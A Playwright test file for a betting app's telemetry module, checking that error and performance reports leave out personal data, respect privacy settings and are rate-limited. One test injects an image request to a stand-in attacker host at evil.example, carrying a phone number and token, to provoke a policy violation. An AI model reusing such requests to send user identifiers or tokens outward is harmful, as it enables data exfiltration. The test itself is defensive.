// The reports of a page to its operator: nothing personal, and no more often than docs/reports.md says.
import type { Page } from '@playwright/test';
import { stored } from '../../src/storage/table.ts';
import { expect, test } from '../support/app.ts';
import { openGame, place, proceed, signIn } from '../support/play.ts';
import { withConfig } from '../support/with-config.ts';

test.use({ allowConsole: [/Failed to load resource|Content Security Policy|\[test\]/] });

/** Everything that no report may contain: the player, the bid, and the errors that the test throws in. */
const personal =
  '9876543210 98765 demo1234 demo player demo@upi tok 10,000 10000 kalyan name= secret provider'.split(' ');

/** Waits until the file of the reports is loaded, and has run. */
async function reporting(page: Page): Promise<void> {
  const file = await page.waitForFunction(
    () => performance.getEntriesByType('resource').find(({ name }) => /\/reports-\w+\.js$/.test(name))?.name,
  );
  await page.evaluate(`import('${await file.jsonValue()}').then(() => undefined)`);
}

const leave = (page: Page) => page.goto('/__mock/#reports');

test('a walk with a broken file, an error, a violation and a lost reply is read in the console, without anything personal', async ({
  page,
  mock,
}) => {
  await page.route(/\/assets\/slips-/, route => route.fulfill({ status: 404 }));
  await page.goto('/login?name=secret&phone=9876543210');
  await reporting(page);
  await page.getByLabel('Phone number').fill('9876543210');
  await page.getByLabel('Password', { exact: true }).fill('demo1234');
  await page.getByRole('button', { name: 'Login', exact: true }).click();
  await openGame(page, /^Kalyan/, 'Single Digit');
  await page.getByRole('button', { name: 'Slips' }).click();
  await expect(page).toHaveSaid('Something went wrong. Please try again later.');

  await page.evaluate(() => {
    const own = performance
      .getEntriesByType('resource')
      .find(({ name }) => /\/app-\w+\.js$|\/chunk-\w+\.js$/.test(name));
    const error = new TypeError(`Cannot read 'Demo Player' of 9876543210, demo@upi [test]`);
    error.stack = `${error.message}\n at Demo Player (${own?.name}:1:2345)\n at https://evil.example/9876543210.js:1:1`;
    setTimeout(() => {
      throw error;
    });
    void Promise.reject(new Error('Some words of the provider: 10,000 pts, [test]'));
    const picture = new Image();
    picture.src = 'https://9876543210.secret.evil.example/?token=tok-1';
  });

  await mock.faults({ path: '/api-submit-bid', kind: 'drop-after' });
  await proceed(page, { Digit: '7', Points: '50' });
  await page.getByRole('button', { name: 'Submit', exact: true }).click();
  await page.getByRole('dialog', { name: 'Confirm bid' }).getByRole('button', { name: 'SUBMIT' }).click();
  await expect(page).toHaveSaid('Bid placed successfully!');
  await page.getByRole('button', { name: 'New bid' }).click();
  await proceed(page, { Digit: '8', Points: '50' });
  await place(page);

  await leave(page);
  const reports = page.getByRole('region', { name: 'Reports' });
  const row = (table: string, cells: RegExp) =>
    reports.getByRole('table', { name: table }).getByRole('row', { name: cells });
  await expect(
    row('Errors', /\/single error TypeError Cannot read … of … (app|chunk)-\w{8}\.js:1:2345 1$/),
  ).toBeVisible();
  await expect(row('Errors', /\/single rejection Error … of the … 1$/)).toBeVisible();
  await expect(row('Files that did not load', /slips-\w{8}\.js 1$/)).toBeVisible();
  await expect(row('Violations of the policy', /img-src https:\/\/evil\.example 1$/)).toBeVisible();
  await expect(row('Ends of bids', /^placed 1$/)).toBeVisible();
  await expect(row('Ends of bids', /^unclear 1$/)).toBeVisible();
  await expect(row('Ends of bids', /^found 1$/)).toBeVisible();
  await expect(row('Calls that failed', /^submitBid network 1$/)).toBeVisible();
  for (const name of ['LCP', 'CLS', 'TTFB', 'INP'])
    await expect(row('Vitals (in ms)', new RegExp(`^/login ${name} 1 `))).toBeVisible();
  await expect(reports).toContainText('first log-in after');

  const all = JSON.stringify(await mock.reports());
  for (const word of personal) expect(all.toLowerCase(), word).not.toContain(word);
  await page.goto('/imp');
  const kept = await page.evaluate(key => localStorage.getItem(key), stored.reports.key);
  expect(JSON.parse(kept ?? '')).toMatchObject({
    sent: 1,
    told: Array.from({ length: 4 }, () => expect.stringMatching(/^[\da-f]{16}$/)),
  });
});

test('a page without trouble reports once, when it is left, and not again within a minute', async ({
  page,
  mock,
}) => {
  await signIn(page);
  await reporting(page);
  await leave(page);
  await expect(page.getByRole('region', { name: 'Reports' })).toContainText(
    '1 report, 0 from installed apps',
  );
  await page.goto('/imp');
  await reporting(page);
  await leave(page);
  expect(await mock.reports()).toMatchObject({ reports: 1 });
});

for (const [what, change] of [
  ['names no place for reports', { reports: undefined }],
  ['asks no page', { reportShare: 0 }],
] as const)
  test(`nothing is sent where the operator ${what}`, async ({ page, mock }) => {
    const files: string[] = [];
    page.on('request', request => files.push(request.url()));
    await withConfig(page, () => change);
    await signIn(page);
    await expect.poll(() => files.some(file => file.includes('/background-'))).toBe(true);
    await page.waitForLoadState('networkidle');
    await leave(page);
    expect(await mock.reports()).toMatchObject({ reports: 0 });
    if ('reports' in change) expect(files.filter(file => /\/assets\/reports-/.test(file))).toEqual([]);
  });

test('a browser that asks for privacy (Global Privacy Control) is asked nothing', async ({ page, mock }) => {
  await page.addInitScript(() => Object.defineProperty(navigator, 'globalPrivacyControl', { value: true }));
  await signIn(page);
  await reporting(page);
  await leave(page);
  expect(await mock.reports()).toMatchObject({ reports: 0 });
});

test('an error is reported within a minute, and the same one once a day', async ({ page, mock }) => {
  await signIn(page);
  await page.clock.install();
  let loaded = false;
  page.on('requestfinished', request => (loaded ||= request.url().includes('/assets/reports-')));
  await page.goto('/imp');
  // A page is idle only as its clock goes.
  await expect
    .poll(async () => {
      await page.clock.runFor(1000);
      return loaded;
    })
    .toBe(true);
  const fail = (message: string) =>
    page.evaluate(text => reportError(new RangeError(`${text} [test]`)), message);
  /** The reports of another minute. */
  const reported = async () => {
    await page.clock.runFor(61_000);
    const { errors } = (await mock.reports()) as { errors: readonly { message: string; count: number }[] };
    return errors.map(({ message, count }) => `${count} × ${message}`);
  };
  await fail('Invalid array length');
  await fail('Invalid array length');
  await expect.poll(reported).toEqual(['2 × Invalid array length …']);
  await fail('Invalid array length');
  await fail('Out of memory');
  await expect.poll(reported).toEqual(['2 × Invalid array length …', '1 × Out of memory …']);
});
